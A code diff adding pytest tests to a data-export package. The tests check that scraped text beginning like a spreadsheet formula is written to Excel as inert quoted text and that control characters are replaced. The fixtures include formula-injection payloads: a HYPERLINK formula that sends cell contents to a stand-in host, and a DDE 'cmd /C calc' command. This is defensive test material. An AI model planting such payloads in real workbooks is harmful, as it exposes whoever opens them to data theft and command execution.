@@ -56,6 +56,36 @@ def test_excel_workbook_has_a_sheet_per_table_and_a_dictionary(tables, tmp_path)
     assert d[(d.table == "facts") & (d.column == "region_code")]["description"].str.contains("code").all()
 
 
+def test_excel_never_stores_text_that_looks_like_a_formula_as_a_formula(tables, tmp_path):
+    """A sentence quoted from a scraped page can begin with = + - @ (a spreadsheet formula, e.g. a
+    DDE or HYPERLINK payload); the workbook keeps it as text, character for character."""
+    from openpyxl import load_workbook
+
+    blocks = tables["blocks"].copy()
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"点击查看")', "+86-891-6321234", "-2.3个百分点",
+               "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "脱贫攻坚=全面胜利"]
+    blocks = blocks.iloc[:len(hostile)].copy()
+    blocks["text"] = hostile
+    path = datapackage.write_excel({"blocks": blocks, "facts": tables["facts"]}, tmp_path / "t.xlsx")
+    wb = load_workbook(path)
+    assert [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
+    ws = wb["blocks"]
+    col = [c.value for c in ws[1]].index("text") + 1
+    back = [ws.cell(row=i, column=col).value for i in range(2, len(hostile) + 2)]
+    # XML reads a carriage return in text as a line feed: the text is kept, its line end normalised
+    expect = [h.replace("\r", "\n") for h in hostile]
+    assert back == expect
+    assert all(ws.cell(row=i, column=col).quotePrefix for i in range(2, 9))  # those beginning like formulas
+    assert pd.read_excel(path, sheet_name="blocks")["text"].tolist() == expect
+
+
+def test_excel_replaces_characters_a_workbook_cannot_hold(tables, tmp_path):
+    blocks = tables["blocks"].iloc[:1].copy()
+    blocks["text"] = ["扶贫\x00资金\x1b1.2亿元"]
+    path = datapackage.write_excel({"blocks": blocks}, tmp_path / "t.xlsx")
+    assert pd.read_excel(path, sheet_name="blocks")["text"].tolist() == ["扶贫\ufffd资金\ufffd1.2亿元"]
+
+
 def test_export_command_writes_stata_files_and_a_workbook(tmp_path, capsys):
     from fupin import cli, pipeline
 
